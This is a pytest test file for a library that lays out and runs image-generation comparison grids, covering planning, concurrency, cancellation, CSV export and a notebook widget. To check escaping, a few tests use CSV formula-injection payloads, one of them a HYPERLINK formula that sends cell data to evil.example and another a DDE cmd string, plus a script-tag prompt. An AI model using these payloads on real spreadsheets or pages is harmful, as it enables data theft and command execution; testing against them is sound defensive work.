"""Comparison grids: layout, "n/a" and rejected cells, bounded concurrency, records and CSV.

Runs go through the real client into the simulator's in-process transport (the same hub core
as the HTTP server), with the poll sleep shortened so nothing waits for real time.
"""

from __future__ import annotations

import csv
import html
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from mountsea_widgets import simulator
from mountsea_widgets.catalog import catalog
from mountsea_widgets.client import AsyncClient
from mountsea_widgets.comparison import (
    NO_SEED_NOTE,
    NOT_APPLICABLE,
    QUEUED,
    RECORD_FIELDS,
    REJECTED,
    Comparison,
    compare,
    format_value,
    plan,
    read_csv,
)
from mountsea_widgets.errors import ValidationError
from tests.helpers.waiting import short_sleep

FOUR = ["nano-banana", "nano-banana-2", "nano-banana-pro", "gpt-image-2"]


class CountingClient(AsyncClient):
    """An AsyncClient that counts how many tasks it has between submit and the end of wait."""

    def __init__(self, *args: Any, **kwargs: Any) -> None:
        super().__init__(*args, **kwargs)
        self.active = 0
        self.max_active = 0
        self.submitted: list[str] = []

    async def submit(self, model: str, input: Any) -> str:
        self.active += 1
        self.max_active = max(self.max_active, self.active)
        self.submitted.append(model)
        try:
            return await super().submit(model, input)
        except BaseException:
            self.active -= 1
            raise

    async def wait(self, task_id: str, **kwargs: Any) -> Any:
        try:
            return await super().wait(task_id, **kwargs)
        finally:
            self.active -= 1


@pytest.fixture
def inprocess_hub() -> Iterator[simulator.Hub]:
    hub = simulator.Hub(speed=500, prerender=False)
    yield hub
    hub.close()


@pytest.fixture
def client(inprocess_hub: simulator.Hub) -> CountingClient:
    return CountingClient(
        base_url="http://hub.test", transport=simulator.transport(inprocess_hub), sleep=short_sleep
    )


# --- planning (nothing is sent) ------------------------------------------------------------------


def test_models_by_seeds_by_one_varied_parameter_puts_seeds_in_rows() -> None:
    layout = plan(
        "a cat",
        models=["nano-banana", "nano-banana-2"],
        seeds=[1, 2],
        vary={"aspect_ratio": ["1:1", "16:9", "9:16"]},
    )
    assert layout.shape == (4, 3)
    assert layout.row_labels == [
        "nano-banana\nseed 1",
        "nano-banana\nseed 2",
        "nano-banana-2\nseed 1",
        "nano-banana-2\nseed 2",
    ]
    assert layout.column_labels == [
        "aspect_ratio = 1:1",
        "aspect_ratio = 16:9",
        "aspect_ratio = 9:16",
    ]
    cell = layout.cell(3, 2)
    assert (cell.model, cell.seed, cell.param, cell.value) == (
        "nano-banana-2",
        2,
        "aspect_ratio",
        "9:16",
    )
    assert cell.input == {"prompt": "a cat", "seed": 2, "aspect_ratio": "9:16"}
    assert [(c.row, c.column) for c in layout.cells] == [(r, c) for r in range(4) for c in range(3)]


def test_without_vary_columns_are_seeds_and_rows_are_the_four_default_models() -> None:
    layout = plan("a cat", seeds=[1, 2])
    assert layout.models == FOUR == catalog.text_to_image
    assert layout.shape == (4, 2)
    assert layout.row_labels == FOUR
    assert layout.column_labels == ["seed 1", "seed 2"]
    assert plan("a cat").column_labels == ["no seed"]
    assert plan("a cat").cell(0, 0).input == {"prompt": "a cat"}


def test_one_seed_with_vary_keeps_one_row_per_model() -> None:
    layout = plan(
        "a cat", models=["nano-banana"], seeds=[5], vary={"output_format": ["png", "jpeg"]}
    )
    assert layout.shape == (1, 2)
    assert layout.row_labels == ["nano-banana"]
    assert layout.cell(0, 1).input == {"prompt": "a cat", "seed": 5, "output_format": "jpeg"}


def test_gpt_image_2_runs_without_the_seed_and_says_so() -> None:
    layout = plan("a cat", models=["nano-banana", "gpt-image-2"], seeds=[1, 2])
    gpt = [c for c in layout.cells if c.model == "gpt-image-2"]
    assert [c.kind for c in gpt] == ["run", "run"]
    assert all(c.input == {"prompt": "a cat"} for c in gpt)
    assert all(c.note == NO_SEED_NOTE for c in gpt)
    assert [c.seed for c in gpt] == [1, 2]
    banana = layout.cell(0, 1)
    assert banana.input == {"prompt": "a cat", "seed": 2}
    assert banana.note == ""


@pytest.mark.parametrize(
    ("param", "values", "lacking"),
    [
        ("quality", ["low", "high"], "nano-banana"),
        ("resolution", ["1K", "2K"], "nano-banana"),
        ("seed", [1, 2], "gpt-image-2"),
    ],
)
def test_a_parameter_the_model_lacks_makes_its_cells_not_applicable(
    param: str, values: list[Any], lacking: str
) -> None:
    other = "gpt-image-2" if lacking != "gpt-image-2" else "nano-banana"
    if param == "resolution":
        other = "nano-banana-2"
    layout = plan("a cat", models=[lacking, other], vary={param: values})
    lacking_cells = [c for c in layout.cells if c.model == lacking]
    assert [c.status for c in lacking_cells] == [NOT_APPLICABLE] * len(values)
    assert all(c.input is None and c.run is None for c in lacking_cells)
    assert all(param in (c.problem or "") for c in lacking_cells)
    assert all(c.kind == "run" for c in layout.cells if c.model == other)


def test_a_value_the_model_rejects_is_reported_per_cell_with_the_catalog_message() -> None:
    layout = plan(
        "a cat", models=["nano-banana", "nano-banana-2"], vary={"aspect_ratio": ["1:1", "8:1"]}
    )
    rejected = layout.cell(0, 1)
    assert rejected.status == REJECTED
    assert rejected.run is None
    with pytest.raises(ValidationError) as expected:
        catalog["nano-banana"].validate({"prompt": "a cat", "aspect_ratio": "8:1"})
    assert rejected.error == str(expected.value)
    assert "aspect_ratio" in (rejected.error or "") and "9:16" in (rejected.error or "")
    assert layout.cell(0, 0).kind == "run"
    assert layout.cell(1, 1).kind == "run"  # nano-banana-2 accepts 8:1
    assert layout.cell(1, 1).input == {"prompt": "a cat", "aspect_ratio": "8:1"}


def test_fixed_params_go_only_to_models_that_have_them() -> None:
    layout = plan("a cat", models=["nano-banana", "gpt-image-2"], params={"quality": "low"})
    banana, gpt = layout.cells
    assert banana.input == {"prompt": "a cat"}
    assert "quality left out" in banana.note
    assert gpt.input == {"prompt": "a cat", "quality": "low"}


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        (
            {"vary": {"aspect_ratio": ["1:1"], "seed": [1], "quality": ["low"], "n": [1]}},
            "one to three",
        ),
        ({"vary": {"prompt": ["a", "b"]}}, "prompt"),
        ({"vary": {"aspect_ratoi": ["1:1"]}}, "did you mean 'aspect_ratio'"),
        ({"vary": {"aspect_ratio": "1:1"}}, "must be a list"),
        ({"vary": {"aspect_ratio": []}}, "must not be empty"),
        ({"models": []}, "models must not be empty"),
        ({"seeds": [1], "vary": {"seed": [2]}}, "seeds"),
        ({"params": {"seed": 3}}, "seeds=[...]"),
        ({"params": {"prompt": "x"}}, "prompt"),
        ({"params": {"qualty": "low"}}, "did you mean 'quality'"),
        ({"params": {"quality": "low"}, "vary": {"quality": ["high"]}}, "both varied and fixed"),
    ],
)
def test_a_comparison_that_cannot_be_laid_out_is_refused(
    kwargs: dict[str, Any], message: str
) -> None:
    with pytest.raises(ValueError, match=None) as error:
        plan("a cat", **kwargs)
    assert message in str(error.value)


def test_unknown_model_is_refused_with_a_suggestion() -> None:
    with pytest.raises(ValidationError, match="did you mean 'nano-banana-2'"):
        plan("a cat", models=["nano-banana2"])


def test_blank_prompt_and_bad_concurrency_are_refused() -> None:
    with pytest.raises(ValueError, match="prompt"):
        plan("   ")
    with pytest.raises(ValueError, match="concurrency"):
        Comparison(plan("a cat", models=["nano-banana"]), concurrency=0)


def test_value_labels_are_short() -> None:
    assert format_value({"width": 1536, "height": 1024}) == "1536×1024"
    assert format_value(True) == "true"
    assert format_value("16:9") == "16:9"


# --- running -----------------------------------------------------------------------------------


def test_the_grid_fills_and_only_runnable_cells_reach_the_hub(
    inprocess_hub: simulator.Hub, client: CountingClient
) -> None:
    comparison = compare(
        "a lighthouse",
        models=["nano-banana", "nano-banana-2", "gpt-image-2"],
        vary={"aspect_ratio": ["1:1", "8:1"]},
        client=client,
        history=False,
    )
    comparison.wait(60)
    statuses = [[comparison.cell(r, c).status for c in range(2)] for r in range(3)]
    assert statuses == [
        ["completed", REJECTED],
        ["completed", "completed"],
        [NOT_APPLICABLE, NOT_APPLICABLE],
    ]
    assert inprocess_hub.stats.submitted == 3
    assert inprocess_hub.stats.rejections == 0
    assert sorted(client.submitted) == ["nano-banana", "nano-banana-2", "nano-banana-2"]
    done = comparison.cell(1, 1)
    assert done.task_id and done.task_id.startswith("hub-")
    assert done.seconds is not None and done.seconds >= 0
    assert done.image_bytes and done.run is not None and done.run.result is not None
    assert done.run.result.input == {"prompt": "a lighthouse", "aspect_ratio": "8:1"}
    assert comparison.done
    assert comparison.summary().startswith("6 of 6 done")


def test_concurrency_cap_is_respected(inprocess_hub: simulator.Hub, client: CountingClient) -> None:
    comparison = compare(
        "a lighthouse", models=FOUR, seeds=[1, 2], client=client, concurrency=2, history=False
    )
    comparison.wait(60)
    assert [c.status for c in comparison.cells] == ["completed"] * 8
    assert client.max_active == 2
    assert inprocess_hub.stats.max_in_flight <= 2
    assert inprocess_hub.stats.submitted == 8


def test_without_a_cap_more_cells_run_at_once(
    inprocess_hub: simulator.Hub, client: CountingClient
) -> None:
    # The counterpart of the cap test: proves the counter can see more than two at once.
    compare(
        "a lighthouse", models=FOUR, seeds=[1, 2], client=client, concurrency=8, history=False
    ).wait(60)
    assert client.max_active > 2


def test_records_have_one_row_per_cell_with_every_field(
    inprocess_hub: simulator.Hub, client: CountingClient
) -> None:
    comparison = compare(
        "a lighthouse",
        models=["nano-banana", "gpt-image-2"],
        seeds=[1, 2],
        vary={"aspect_ratio": ["1:1", "4:1"]},
        client=client,
        history=False,
    ).wait(60)
    records = comparison.records()
    assert len(records) == 8
    assert all(tuple(r) == RECORD_FIELDS for r in records)
    first = records[0]
    assert first["model"] == "nano-banana" and first["seed"] == 1
    assert first["param"] == "aspect_ratio" and first["value"] == "1:1"
    assert first["params"] == {"prompt": "a lighthouse", "seed": 1, "aspect_ratio": "1:1"}
    assert first["status"] == "completed" and first["error"] is None
    assert isinstance(first["seconds"], float)
    assert first["task_id"].startswith("hub-")
    assert first["file"] is None
    rejected = records[1]
    assert rejected["status"] == REJECTED and "aspect_ratio" in rejected["error"]
    assert rejected["task_id"] is None and rejected["seconds"] is None
    na = records[4]
    assert na["model"] == "gpt-image-2" and na["status"] == NOT_APPLICABLE and na["params"] is None


def test_csv_round_trips(
    inprocess_hub: simulator.Hub, client: CountingClient, tmp_path: Path
) -> None:
    comparison = compare(
        'a lighthouse, "quoted", with commas\nand a newline',
        models=["nano-banana-2", "gpt-image-2"],
        seeds=[3],
        vary={"aspect_ratio": ["1:1", "8:1"]},
        client=client,
        history=False,
    ).wait(60)
    comparison.save_images(tmp_path / "images")
    path = comparison.to_csv(tmp_path / "out" / "grid.csv")
    assert read_csv(path) == comparison.records()
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 4
    assert tuple(rows[0]) == RECORD_FIELDS
    assert rows[0]["value"] == "1:1"  # readable in a spreadsheet, not JSON-quoted
    assert rows[2]["params"] == ""  # gpt-image-2 lacks aspect_ratio: nothing was sent


def test_csv_round_trips_typed_values(
    inprocess_hub: simulator.Hub, client: CountingClient, tmp_path: Path
) -> None:
    comparison = compare(
        "a lighthouse",
        models=["gpt-image-2"],
        vary={"image_size": ["square", {"width": 1536, "height": 1024}]},
        client=client,
        history=False,
    ).wait(60)
    back = read_csv(comparison.to_csv(tmp_path / "sizes.csv"))
    assert back == comparison.records()
    assert back[1]["value"] == {"width": 1536, "height": 1024}
    numbers = compare(
        "a lighthouse",
        models=["nano-banana"],
        vary={"num_images": [1, 2]},
        client=client,
        history=False,
    ).wait(60)
    back = read_csv(numbers.to_csv(tmp_path / "numbers.csv"))
    assert back == numbers.records()
    assert [r["value"] for r in back] == [1, 2]


HOSTILE_TASK_IDS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
]
HOSTILE_ERRORS = ["=cmd|' /C calc'!A0", "\tTAB", "'=already quoted", "'plain quote"]


def _hostile_comparison() -> Comparison:
    """A finished grid whose hub-given task ids and errors would run in a spreadsheet."""
    layout = plan(
        "=1+1 a lighthouse",
        models=["nano-banana"],
        seeds=[-7],
        vary={"aspect_ratio": ["1:1", "16:9", "4:3", "3:4", "-1:1"]},
    )
    comparison = Comparison(layout)  # never started: nothing is sent
    runs = [cell for cell in comparison.cells if cell.run is not None]
    for cell, task_id, error in zip(runs, HOSTILE_TASK_IDS, HOSTILE_ERRORS, strict=True):
        assert cell.run is not None
        cell.started = True
        cell.run.update(status="failed", task_id=task_id, error=error, elapsed_s=1.5)
    return comparison


def test_csv_text_a_spreadsheet_would_run_is_quoted_and_read_back(tmp_path: Path) -> None:
    comparison = _hostile_comparison()
    path = comparison.to_csv(tmp_path / "hostile.csv")
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["task_id"] for row in rows[:4]] == ["'" + t for t in HOSTILE_TASK_IDS]
    assert [row["error"] for row in rows[:4]] == ["'" + e for e in HOSTILE_ERRORS]
    assert rows[4]["status"] == REJECTED and rows[4]["value"] == "'-1:1"
    assert rows[0]["params"].startswith('{"prompt": "=1+1 a lighthouse"')
    # Numbers stay numbers, negative ones included.
    assert all(row["seed"] == "-7" for row in rows)
    assert [row["seconds"] for row in rows[:4]] == ["1.5"] * 4
    for row in rows:
        for name, cell in row.items():
            if name not in ("seed", "seconds"):
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    # Reading undoes the quoting exactly, even of text that itself started with a quote.
    back = read_csv(path)
    assert back == comparison.records()
    assert [r["task_id"] for r in back[:4]] == HOSTILE_TASK_IDS
    assert [r["error"] for r in back[:4]] == HOSTILE_ERRORS
    assert back[4]["value"] == "-1:1" and back[0]["seed"] == -7
    assert back[0]["params"]["prompt"] == "=1+1 a lighthouse"


def test_save_images_fills_the_file_field(
    inprocess_hub: simulator.Hub, client: CountingClient, tmp_path: Path
) -> None:
    comparison = compare(
        "a lighthouse",
        models=["nano-banana", "gpt-image-2"],
        vary={"quality": ["low"]},
        client=client,
        history=False,
    ).wait(60)
    paths = comparison.save_images(tmp_path)
    assert len(paths) == 1
    records = comparison.records()
    assert records[0]["file"] is None  # n/a: nano-banana has no quality
    assert records[1]["file"] == str(paths[0]) and paths[0].is_file()


def test_history_keeps_each_run_and_names_its_file(
    inprocess_hub: simulator.Hub, client: CountingClient, tmp_path: Path
) -> None:
    from mountsea_widgets.history import History

    history = History(tmp_path / "history")
    comparison = compare(
        "a lighthouse", models=["nano-banana"], seeds=[1, 2], client=client, history=history
    ).wait(60)
    files = [r["file"] for r in comparison.records()]
    assert all(f is not None and Path(f).is_file() for f in files)
    assert len(history.entries()) == 2
    assert {e.task_id for e in history.entries()} == {c.task_id for c in comparison.cells}


def test_a_failed_task_is_shown_in_its_cell(client: CountingClient) -> None:
    failing = simulator.Hub(speed=500, prerender=False, faults="task_failed=1")
    try:
        broken = CountingClient(
            base_url="http://hub.test", transport=simulator.transport(failing), sleep=short_sleep
        )
        comparison = compare("a cat", models=["nano-banana"], client=broken, history=False).wait(60)
    finally:
        failing.close()
    cell = comparison.cells[0]
    assert cell.status == "failed"
    assert "SIMULATED_FAILURE" in (cell.error or "")
    assert comparison.records()[0]["error"] == cell.error


def test_cancel_stops_running_and_queued_cells() -> None:
    slow = simulator.Hub(speed=0.01, prerender=False)  # nothing finishes during the test
    try:
        patient = CountingClient(base_url="http://hub.test", transport=simulator.transport(slow))
        comparison = compare(
            "a cat",
            models=["nano-banana"],
            seeds=[1, 2, 3],
            client=patient,
            concurrency=1,
            history=False,
        )
        first = comparison.cells[0]
        assert first.run is not None
        for _ in range(500):
            if first.task_id:
                break
            first.run.wait(0.01)
        assert comparison.cells[1].status == QUEUED
        assert comparison.cancel()
        comparison.wait(10)
    finally:
        slow.close()
    assert [c.status for c in comparison.cells] == ["cancelled"] * 3
    assert slow.stats.submitted == 1
    assert "cancelled before it was sent" in (comparison.cells[2].error or "")


def test_a_comparison_cancelled_while_the_runner_is_busy_still_settles() -> None:
    import threading

    from mountsea_widgets._runner import Runner

    own = Runner(name="mountsea-runner-comparison-cancel")
    busy, release = threading.Event(), threading.Event()

    def block() -> None:  # holds the runner loop: the cancel lands before any cell starts
        busy.set()
        release.wait(timeout=20)

    hub = simulator.Hub(speed=500, prerender=False)
    try:
        own.call_soon(block)
        assert busy.wait(timeout=10)
        layout = plan("a cat", models=["nano-banana"], seeds=[1, 2])
        counting = CountingClient(base_url="http://hub.test", transport=simulator.transport(hub))
        comparison = Comparison(layout, client=counting, history=None)
        comparison.start(runner=own)
        assert comparison.cancel()
        release.set()

        comparison.wait(10)  # returns: every cell is settled
        assert [c.status for c in comparison.cells] == ["cancelled", "cancelled"]
        assert "cancelled before it was sent" in (comparison.cells[0].error or "")
        assert not comparison.cancel()
        assert hub.stats.submitted == 0
    finally:
        release.set()
        own.shutdown()
        hub.close()


def test_a_varied_seed_is_in_the_seed_column(client: CountingClient, tmp_path: Path) -> None:
    comparison = compare(
        "a cat", models=["nano-banana"], vary={"seed": [5, 6]}, client=client, history=False
    ).wait(30)
    assert [record["seed"] for record in comparison.records()] == [5, 6]
    assert [row["seed"] for row in read_csv(comparison.to_csv(tmp_path / "grid.csv"))] == [5, 6]


def test_a_blocking_client_with_its_own_transport_is_refused_before_a_cell_is_sent(
    inprocess_hub: simulator.Hub,
) -> None:
    from mountsea_widgets.client import Client

    # Its sync transport cannot carry the awaited runs (a Client without one is twinned).
    blocking = Client(base_url="http://hub.test", transport=simulator.transport(inprocess_hub))
    with pytest.raises(TypeError, match=r"own transport.*mw\.AsyncClient"):
        compare("a cat", models=["nano-banana"], client=blocking, history=False)
    assert inprocess_hub.stats.submitted == 0


def test_wait_times_out_without_stopping_the_cells() -> None:
    slow = simulator.Hub(speed=0.01, prerender=False)
    try:
        patient = CountingClient(base_url="http://hub.test", transport=simulator.transport(slow))
        comparison = compare("a cat", models=["nano-banana"], client=patient, history=False)
        with pytest.raises(TimeoutError, match="keeps running"):
            comparison.wait(0.05)
        assert not comparison.done
        comparison.cancel()
        comparison.wait(10)
    finally:
        slow.close()


# --- the widget ----------------------------------------------------------------------------------


def test_widget_shows_labels_statuses_and_thumbnails(
    inprocess_hub: simulator.Hub, client: CountingClient
) -> None:
    prompt = "<script>alert(1)</script> & a cat"
    comparison = compare(
        prompt,
        models=["nano-banana", "gpt-image-2"],
        vary={"quality": ["low", "high"]},
        client=client,
        history=False,
    )
    grid = comparison.widget  # built while (or before) the cells run, kept up to date
    comparison.wait(60)
    grid.flush()
    assert grid.shape == (2, 2)
    assert grid.title == prompt  # text in the state: the page writes it as text
    assert "<script>" not in grid.fallback_html()
    assert html.escape(prompt) in grid.fallback_html()
    assert grid.columns[0] == "quality = low"
    banana = grid.record(grid.index(0, 0))
    assert banana["status"] == "n/a"
    assert "nano-banana has no quality" in banana["message"]
    assert banana["thumb"] is False and grid.thumbnail(0) is None
    gpt = grid.record(grid.index(1, 1))
    assert gpt["status"] == "completed" and gpt["thumb"] is True
    assert grid.cells[3] == gpt  # the synced state holds the same record
    assert (grid.thumbnail(3) or b"")[:2] == b"\xff\xd8"  # a JPEG thumbnail
    assert "4 of 4 done" in grid.summary
    assert grid.progress == {"done": 4, "total": 4}
    assert grid.running is False
    bundle = comparison._repr_mimebundle_()
    data = bundle[0] if isinstance(bundle, tuple) else bundle
    assert data["application/vnd.jupyter.widget-view+json"]["model_id"] == grid.model_id
    assert data["text/plain"] == grid.describe()  # no counts: never stale once saved
    assert repr(comparison) == "<Comparison 2×2 4 of 4 done · 2 n/a>"


def test_widget_built_after_the_run_shows_the_final_state(
    inprocess_hub: simulator.Hub, client: CountingClient
) -> None:
    comparison = compare(
        "a cat",
        models=["nano-banana-2"],
        vary={"aspect_ratio": ["1:1", "8:1"]},
        client=client,
        history=False,
    ).wait(60)
    grid = comparison.widget
    assert [record["status"] for record in grid.cells] == ["completed", "completed"]
    assert grid.cells[1]["thumb"] and grid.thumbnail(1) is not None


def test_rejected_cells_show_the_error_in_the_widget() -> None:
    layout = plan("a cat", models=["nano-banana"], vary={"aspect_ratio": ["8:1"]})
    comparison = Comparison(layout)
    assert comparison.done  # nothing to run
    cell = comparison.widget.cells[0]
    assert cell["status"] == "rejected" and cell["tone"] == "error"
    assert "aspect_ratio" in cell["message"]
    assert comparison.wait() is comparison
